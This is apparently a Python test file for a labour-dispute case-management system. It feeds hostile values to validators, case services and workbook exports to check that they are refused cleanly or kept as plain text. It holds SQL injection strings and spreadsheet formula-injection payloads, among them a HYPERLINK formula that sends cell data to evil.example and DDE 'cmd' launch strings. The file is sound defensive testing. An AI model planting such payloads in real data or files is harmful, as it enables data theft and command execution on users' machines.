"""Hostile input at every service entry point and validator (hypothesis).

Each call is either accepted (and what is stored is the cleaned input) or refused with a
KnownError naming the field; never another exception, never a partial write (row counts
of every table the call could touch, and the audit trail, are unchanged after a refusal).
The classes of bad values are tagged and counted; the counts are printed with ``-s``.
"""

from __future__ import annotations

import csv
import datetime as dt
from collections import Counter
from collections.abc import Iterator
from dataclasses import replace
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from casemgr import db, validation
from casemgr import workflow as wf_model
from casemgr.actor import Actor
from casemgr.enums import CaseKind, EventKind, PartyRole, Role
from casemgr.errors import KnownError, ValidationError
from casemgr.models import AuditEntry, Case, CaseParty, ClaimItem, Deadline, Employer, Event, Person
from casemgr.services import cases, parties, workflow
from tests.helpers import TODAY, case_input, make_id, make_uscc

TALLY: Counter[str] = Counter()
OUTCOME: Counter[str] = Counter()

SQL = [
    "'; DROP TABLE cases; --",
    "1 OR 1=1",
    '" OR ""="',
    "Robert'); DELETE FROM persons;--",
    "%' AND 1=0 --",
]
MIXED = ["张三 Zhang ①", "Ωmega ٣ 四", "ａｂｃ全角", "𠀀𪚥 汉字扩展", "e\u0301\u200b\u202e逆序", "🙂👷‍♀️工人"]


def tagged(tag: str, strat: st.SearchStrategy[Any]) -> st.SearchStrategy[tuple[str, Any]]:
    return strat.map(lambda v: (tag, v))


HOSTILE: st.SearchStrategy[tuple[str, Any]] = st.one_of(
    tagged("none", st.none()),
    tagged("empty/blank", st.sampled_from(["", " ", "\t", "\u3000", "\n\n"])),
    tagged("huge text", st.integers(200, 100_000).map(lambda n: "长" * n)),
    tagged(
        "control chars",
        st.text(alphabet=st.characters(codec="utf-8", categories=["Cc"]), min_size=1, max_size=8),
    ),
    tagged("sql fragment", st.sampled_from(SQL)),
    tagged("mixed scripts", st.sampled_from(MIXED)),
    tagged("random text", st.text(max_size=80)),
    tagged("wrong type: int", st.integers(min_value=-(2**70), max_value=2**70)),
    tagged("wrong type: float", st.floats(allow_nan=True, allow_infinity=True)),
    tagged("wrong type: bytes/list/dict", st.sampled_from([b"\x00\xff", [1, 2], {"a": 1}, object(), ("x",)])),
    tagged(
        "decimal out of range",
        st.sampled_from([Decimal("-1"), Decimal("1e30"), Decimal("NaN"), Decimal("0.001")]),
    ),
    tagged(
        "date out of range", st.sampled_from([dt.date(1, 1, 1), dt.date(1899, 12, 31), dt.date(9999, 12, 31)])
    ),
    tagged("datetime not date", st.just(dt.datetime(2026, 1, 1, tzinfo=dt.UTC))),
    tagged("bool", st.booleans()),
)


def _counts(database: db.Database) -> tuple[int, ...]:
    with database.read() as s:
        return tuple(
            int(s.execute(select(func.count()).select_from(m)).scalar_one())
            for m in (Case, CaseParty, ClaimItem, Event, Person, Employer, AuditEntry, Deadline)
        )


def _call(database: db.Database, tags: list[str], fn: Any) -> Any:
    """Run ``fn(session)`` in one write transaction; check the refusal contract."""
    for t in tags:
        TALLY[t] += 1
    before = _counts(database)
    try:
        with database.write() as s:
            result = fn(s)
    except KnownError as exc:
        assert exc.zh and exc.en
        if isinstance(exc, ValidationError):
            assert exc.field, f"validation error without a field: {exc}"
        assert _counts(database) == before, "a refused call left a partial write"
        OUTCOME["refused"] += 1
        return None
    OUTCOME["accepted"] += 1
    return result


HYP = settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)


@pytest.fixture
def supervisor(actors: dict[Role, Actor]) -> Actor:
    return actors[Role.SUPERVISOR]


@HYP
@given(name=HOSTILE, id_number=HOSTILE, phone=HOSTILE, address=HOSTILE)
def test_find_or_register_person(
    database: db.Database, supervisor: Actor, name: Any, id_number: Any, phone: Any, address: Any
) -> None:
    vals = [name, id_number, phone, address]
    data = parties.PersonInput(name[1], id_number[1], phone[1], False, address[1])
    p = _call(
        database, [v[0] for v in vals], lambda s: parties.find_or_register_person(s, supervisor, data).id
    )
    if p is not None:
        with database.read() as s:
            row = s.get(Person, p)
            assert row is not None and row.name == name[1].strip()
            assert row.id_number is None or validation.is_valid_resident_id(row.id_number)


@HYP
@given(name=HOSTILE, uscc=HOSTILE, district=HOSTILE, phone=HOSTILE)
def test_find_or_register_employer(
    database: db.Database, supervisor: Actor, name: Any, uscc: Any, district: Any, phone: Any
) -> None:
    data = parties.EmployerInput(name[1], uscc[1], district=district[1], phone=phone[1])
    e = _call(
        database,
        [v[0] for v in (name, uscc, district, phone)],
        lambda s: parties.find_or_register_employer(s, supervisor, data).id,
    )
    if e is not None:
        with database.read() as s:
            row = s.get(Employer, e)
            assert row is not None and row.name == name[1].strip()


CASE_FIELDS = ["received_on", "district", "summary", "external_ref", "workers", "amount", "worker_index",
               "kind", "channel", "complaint_type", "employer_name", "person_name", "claim_type", "number"]  # fmt: skip


@HYP
@given(field=st.sampled_from(CASE_FIELDS), value=HOSTILE, n=st.integers(1, 10_000))
def test_register_case(database: db.Database, supervisor: Actor, field: str, value: Any, n: int) -> None:
    """One hostile field at a time in an otherwise valid case, so an acceptance is checkable."""
    base = case_input(CaseKind.ARBITRATION, n=n)
    v = value[1]
    kw: dict[str, Any] = dict(base.__dict__)
    if field in ("received_on", "district", "summary", "external_ref", "workers", "kind", "channel",
                 "complaint_type", "number"):  # fmt: skip
        kw[field] = v
    elif field in ("amount", "worker_index", "claim_type"):
        attr = {"amount": "amount_claimed", "worker_index": "worker_index", "claim_type": "claim_type"}[field]
        kw["claims"] = [cases.ClaimInput(**{**base.claims[0].__dict__, attr: v})]
    elif field == "employer_name":
        kw["employer"] = parties.EmployerInput(v, make_uscc(n))
    else:
        kw["persons"] = [cases.PartyLink(parties.PersonInput(v, make_id(n)), PartyRole.APPLICANT)]
    data = cases.CaseInput(**kw)
    result = _call(database, [f"{value[0]}"], lambda s: cases.register_case(s, supervisor, data).id)
    if result is not None:
        with database.read() as s:
            c = s.get(Case, result)
            assert c is not None and c.kind in {k.value for k in CaseKind}
            assert c.amount_claimed >= 0 and isinstance(c.received_on, dt.date)


@pytest.fixture
def one_case(database: db.Database, supervisor: Actor) -> int:
    with database.write() as s:
        return cases.register_case(s, supervisor, case_input(CaseKind.INSPECTION)).id


@HYP
@given(claimed=HOSTILE, recovered=HOSTILE, workers=HOSTILE, on=HOSTILE, version=HOSTILE)
def test_update_amounts(
    database: db.Database, supervisor: Actor, one_case: int, claimed: Any, recovered: Any, workers: Any, on: Any,
    version: Any,
) -> None:  # fmt: skip
    def go(s: Any) -> Any:
        return cases.update_amounts(
            s, supervisor, one_case, expected_version=version[1] if version[0] != "wrong type: int" else None,
            amount_claimed=claimed[1], amount_recovered=recovered[1], workers=workers[1], occurred_on=on[1],
        ).id  # fmt: skip

    _call(database, [claimed[0], recovered[0], workers[0], on[0], version[0]], go)
    with database.read() as s:
        c = s.get(Case, one_case)
        assert c is not None and c.amount_claimed >= 0 and c.amount_recovered >= 0


@HYP
@given(note=HOSTILE, on=HOSTILE, case_id=st.one_of(st.just(None), HOSTILE))
def test_add_note(
    database: db.Database, supervisor: Actor, one_case: int, note: Any, on: Any, case_id: Any
) -> None:
    cid = one_case if case_id is None else case_id[1]
    tags = [note[0], on[0]] + ([] if case_id is None else [case_id[0]])
    ev = _call(database, tags, lambda s: cases.add_note(s, supervisor, cid, note[1], occurred_on=on[1]).id)
    if ev is not None:
        with database.read() as s:
            row = s.get(Event, ev)
            assert row is not None and row.note == note[1].strip() and isinstance(row.occurred_on, dt.date)


@HYP
@given(code=st.one_of(st.sampled_from(["accept", "refuse", "withdraw", "close", "transfer_out"]), HOSTILE.map(lambda t: t[1])),
       fields=st.dictionaries(st.sampled_from(["reason", "ground", "department", "on", "items", "x"]), HOSTILE, max_size=3),
       on=HOSTILE)  # fmt: skip
@example(code="accept", fields={}, on=("valid", dt.date(2026, 3, 3)))  # runs first, so one call surely passes
def test_apply_transition(
    database: db.Database, supervisor: Actor, one_case: int, code: Any, fields: dict[str, Any], on: Any
) -> None:
    """An accepted step is exactly the step asked for: its status, dates, outcome and one event."""
    f = {k: v[1] for k, v in fields.items()}
    tags = [v[0] for v in fields.values()] + [on[0]]
    seen: dict[str, Any] = {}

    def go(s: Any) -> int:
        case = s.get(Case, one_case)
        seen["status"], seen["version"] = case.status, case.version
        return workflow.apply_transition(s, supervisor, one_case, code, f, expected_version=None, on=on[1]).id

    if _call(database, tags, go) is None:
        # The valid example must pass (the case is still "received" the first time it runs).
        assert not (on[0] == "valid" and code == "accept" and seen.get("status") == "received"), (
            "valid step refused"
        )
        return
    t = wf_model.get_transition(CaseKind.INSPECTION, code)
    day = TODAY if on[1] is None else on[1]  # no date: the bureau's today
    assert type(day) is dt.date
    assert set(f) <= {fd.name for fd in t.fields}
    with database.read() as s:
        c = s.get(Case, one_case)
        assert c is not None and c.version == seen["version"] + 1
        assert seen["status"] in t.from_states
        if t.to_state not in (None, wf_model.PREVIOUS):
            assert c.status == t.to_state
        if t.closes:
            assert t.outcome is not None and (c.closed_on, c.outcome) == (day, t.outcome.value)
        ev = s.execute(
            select(Event).where(Event.case_id == one_case).order_by(Event.id.desc()).limit(1)
        ).scalar_one()
        assert (ev.kind, ev.action, ev.occurred_on) == (EventKind.TRANSITION.value, code, day)
        assert (ev.from_status, ev.to_status) == (seen["status"], c.status)


VALIDATORS = [
    lambda v: validation.clean_text(v, "name", max_len=64),
    lambda v: validation.clean_resident_id(v),
    lambda v: validation.clean_uscc(v),
    lambda v: validation.clean_phone(v),
    lambda v: validation.clean_amount(v),
    lambda v: validation.clean_int(v, "workers"),
    lambda v: validation.clean_date(v, "received_on", not_after=dt.date(2026, 12, 31)),
]
PREDICATES = [
    validation.is_valid_resident_id,
    validation.is_valid_uscc,
    validation.is_valid_phone,
    validation.is_valid_amount,
    validation.is_valid_mobile,
    validation.is_valid_landline,
]


@settings(max_examples=300, deadline=None)
@given(value=HOSTILE)
def test_validators_and_predicates(value: Any) -> None:
    TALLY[value[0]] += 1
    for p in PREDICATES:
        assert isinstance(p(value[1]), bool)
    for clean in VALIDATORS:
        try:
            clean(value[1])
        except ValidationError as exc:
            assert exc.field


@pytest.fixture(scope="module", autouse=True)
def report() -> Iterator[None]:
    yield
    print("\nhostile inputs by class:", dict(sorted(TALLY.items())), "outcomes:", dict(OUTCOME))


# --------------------------------------------------------------------------- app-written workbooks

#: Cell text that a spreadsheet would run (issue 13 finding 5), and its near misses.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\t\r@SUM(A1)",
    "＝1+1",
]


def _live_cells(path: Any) -> list[str]:
    """Every cell of the workbook that a spreadsheet would evaluate or turn into a formula on edit."""
    import zipfile

    import openpyxl

    with zipfile.ZipFile(path) as z:
        raw = [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f" in z.read(n)]
    bad = [f"{n}: has a <f> element" for n in raw]
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    bad.append(f"{ws.title}!{c.coordinate} formula {c.value!r}")
                elif isinstance(c.value, str) and c.value.lstrip("\t\r\n ")[:1] in "=+-@＝＋－＠" and c.value:
                    if not c.quotePrefix:
                        bad.append(f"{ws.title}!{c.coordinate} unprotected {c.value!r}")
    return bad


def _texts(path: Any) -> set[str]:
    import openpyxl

    wb = openpyxl.load_workbook(path)
    return {
        c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)
    }


def test_celltext_knows_what_a_spreadsheet_would_run() -> None:
    from casemgr import celltext

    for f in FORMULAS:
        assert celltext.looks_like_formula(f), f
        assert celltext.csv_text(f) == "'" + f
    for plain in ["张三", "汕尾甲公司", "a=b", "1-2", "", "\t张三", "email@example.com", "(+86) 0660"]:
        assert not celltext.looks_like_formula(plain), plain
        assert celltext.csv_text(plain) == plain
    assert not celltext.looks_like_formula(-5) and not celltext.looks_like_formula(None)


def test_rejection_workbook_writes_every_cell_as_text(
    database: db.Database, actors: dict[Role, Actor], tmp_path: Any
) -> None:
    """Hostile cells in a ledger: the rejection workbook (sheet 1, 错误清单, reasons) shows them as text."""
    from casemgr.io.ledger_import import ImportOptions, import_ledger

    header = [
        "案号",
        "案件类型",
        "收案日期",
        "用人单位",
        "统一社会信用代码",
        "所属区县",
        "申请人",
        "身份证号",
        "申请金额",
    ]
    rows = [
        [f"汕劳人仲案字〔2026〕第{i + 1:04d}号", "仲裁", "2026-03-02", f, "bad-uscc", f, f, f, f]
        for i, f in enumerate(FORMULAS)
    ]
    path = tmp_path / "ledger.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(header)
        w.writerows(rows)
    report = tmp_path / "report.xlsx"
    with database.write() as s:
        result = import_ledger(
            s, actors[Role.SUPERVISOR], path, ImportOptions(today=TODAY, report_path=report)
        )
    assert result.refused and result.report_path == str(report)
    assert _live_cells(report) == []
    texts = _texts(report)
    assert set(FORMULAS) - {"\r=1+1", "\t\r@SUM(A1)"} <= texts  # shown as typed (CSV cells lose a bare CR)


def test_monthly_report_xlsx_writes_every_text_as_text(database: db.Database, tmp_path: Any) -> None:
    """Names, employers, the district and the bureau's name in the monthly workbook stay text."""
    import dataclasses

    from casemgr.metrics import report as mr
    from casemgr.reports import monthly
    from tests.test_metrics_data import build_march_2026

    with database.write() as s:
        build_march_2026(s)
    with database.read() as s:
        data = mr.collect(
            s, 2026, 3, today=dt.date(2026, 4, 10), now=dt.datetime(2026, 4, 10, 1, 2, 3, tzinfo=dt.UTC)
        )
    hostile_rows = tuple(
        mr.ListedCase(
            number=f,
            kind="arbitration",
            district=f,
            persons=(mr.PartyRef(role="applicant", name=f, masked_id=f),),
            persons_total=1,
            employers=(f,),
            due_on=dt.date(2026, 3, 31),
            days=3,
            on_time=True,
        )
        for f in FORMULAS
    )
    data = dataclasses.replace(
        data,
        bureau=FORMULAS[0],
        district=FORMULAS[1],
        green_list=mr.CaseList(total=len(hostile_rows), rows=hostile_rows),
        overdue_list=mr.CaseList(total=len(hostile_rows), rows=hostile_rows),
    )
    out = tmp_path / "report.xlsx"
    monthly.build_xlsx(data, out, lang="zh")
    assert _live_cells(out) == []
    assert FORMULAS[1] in _texts(out)  # the text itself is kept


def test_ledger_export_csv_and_xlsx_keep_hostile_names_as_text(
    database: db.Database, actors: dict[Role, Actor], tmp_path: Any
) -> None:
    from casemgr.io.ledger_export import ExportFilter, export_cases
    from tests.helpers import case_input

    sup = actors[Role.SUPERVISOR]
    printable = [f for f in FORMULAS if not validation.has_control_chars(f)]
    with database.write() as s:
        for i, f in enumerate(printable):
            inp = case_input(n=i + 1)
            inp = replace(inp, employer=replace(inp.employer, name=f))
            cases.register_case(s, sup, inp, today=TODAY)
    xlsx = tmp_path / "out.xlsx"
    export_cases(database, sup, xlsx, ExportFilter())
    assert _live_cells(xlsx) == []
    out_csv = tmp_path / "out.csv"
    export_cases(database, sup, out_csv, ExportFilter())
    body = out_csv.read_text(encoding="utf-8-sig")
    assert "'=cmd|" in body and "'@SUM" in body and "'+1+cmd" in body
